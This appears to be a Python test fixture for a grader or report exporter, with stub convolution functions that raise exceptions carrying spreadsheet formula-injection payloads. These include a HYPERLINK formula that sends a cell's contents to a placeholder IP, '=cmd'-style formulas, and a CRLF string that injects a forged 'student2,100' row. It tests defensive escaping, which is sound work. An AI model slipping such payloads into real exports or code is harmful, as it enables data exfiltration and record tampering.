"""category: report
mechanism: messages and class names that spreadsheets take for formulas
required: 0; cells are made harmless
hits: all
expect: crashed
"""

def conv2d_forward(x, w, b, stride=1, padding=0):
    raise ValueError('=HYPERLINK("http://192.0.2.1/?"&A1,"ok")')


def pad2d(x, padding):
    raise type("@SUM(1+1)*cmd", (Exception,), {})('\t=1+1","100\r\n+1,student2,100')


def conv2d_backward(dout, x, w, stride=1, padding=0):
    raise type("=cmd", (Exception,), {})("+1")
